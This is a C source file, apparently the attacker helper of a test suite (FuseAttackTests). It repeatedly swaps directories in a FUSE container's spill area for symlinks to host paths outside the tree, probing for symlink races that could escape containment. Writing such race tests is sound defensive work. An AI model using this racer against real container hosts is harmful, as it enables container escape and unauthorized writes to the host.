/*
 * fuse_attack_racer.c — the attacker of FuseAttackTests, run on the host
 * against a FUSE-mode container's spill area, as the container itself could
 * through a raw view of it: for each DIR (a name in the spill area where the
 * union makes parent directories), in a loop until STOP exists, puts a
 * symlink to TARGET (a host path outside both trees) at DIR, and removes it
 * again so that the union makes the directory anew. A directory the union made
 * there is renamed aside and replaced by the symlink at once, so every moment
 * between the union's mkdir and its next step is raced too. Prints the number
 * of iterations made.
 *
 *   fuse-attack-racer STOP DIR TARGET [DIR TARGET ...]
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Removes the directory `path` and what the union's callers left in it (files
 * and empty directories, one level). */
static void discard(const char *path) {
    DIR *dir = opendir(path);
    if (dir) {
        struct dirent *entry;
        while ((entry = readdir(dir)) != NULL) {
            if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
            if (unlinkat(dirfd(dir), entry->d_name, 0) != 0) unlinkat(dirfd(dir), entry->d_name, AT_REMOVEDIR);
        }
        closedir(dir);
    }
    rmdir(path);
}

int main(int argc, char **argv) {
    if (argc < 4 || (argc - 2) % 2 != 0) {
        fprintf(stderr, "usage: fuse-attack-racer STOP DIR TARGET [DIR TARGET ...]\n");
        return 2;
    }
    const char *stop = argv[1];
    int pairs = (argc - 2) / 2;
    long iterations = 0, junk = 0;
    char aside[4200];
    for (;;) {
        if ((iterations & 255) == 0 && access(stop, F_OK) == 0) break;
        for (int i = 0; i < pairs; i++) {
            const char *dir = argv[2 + 2 * i], *target = argv[3 + 2 * i];
            if (symlink(target, dir) != 0 && errno == EEXIST) {
                struct stat st;
                if (lstat(dir, &st) == 0 && S_ISDIR(st.st_mode)) {
                    snprintf(aside, sizeof(aside), "%s.aside%ld", dir, junk++);
                    if (rename(dir, aside) == 0) {
                        symlink(target, dir);
                        discard(aside);
                    }
                }
            }
            unlink(dir);
        }
        iterations++;
    }
    printf("%ld\n", iterations);
    return 0;
}
